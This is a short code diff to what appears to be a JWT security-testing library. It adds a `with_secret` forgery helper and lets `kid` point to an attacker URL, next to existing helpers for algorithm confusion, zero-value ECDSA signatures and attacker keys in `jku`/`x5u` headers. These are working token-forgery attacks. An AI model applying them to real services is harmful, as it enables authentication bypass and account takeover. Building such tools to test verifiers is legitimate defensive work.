@@ -183,6 +183,11 @@ def hmac_with_public_key(token: str, public_key: bytes) -> str:
     return resigned(token, hmac_signer(public_key), header={"alg": "HS256"})
 
 
+def with_secret(token: str, secret: bytes, kid: str | None = None) -> str:
+    """Declare HS256 and use a secret of the attacker's choice, under a ``kid`` that may lead the verifier to it."""
+    return resigned(token, hmac_signer(secret), header={"alg": "HS256", **({"kid": kid} if kid is not None else {})})
+
+
 def zero_signature(token: str) -> str:
     """Put ``r = s = 0`` as the ECDSA signature, which a verifier without range checks takes for any text."""
     signed, _, _ = token.rpartition(".")
@@ -196,7 +201,7 @@ def with_key_in_header(token: str, attacker: ec.EllipticCurvePrivateKey) -> str:
 
 
 def with_key_at(token: str, attacker: ec.EllipticCurvePrivateKey, member: str, url: str) -> str:
-    """Sign with the attacker's key and point ``jku`` or ``x5u`` at ``url``."""
+    """Sign with the attacker's key and point ``jku``, ``x5u`` or ``kid`` at ``url``."""
     return resigned(token, signer("ES256", attacker), header={"alg": "ES256", member: url})
 
 
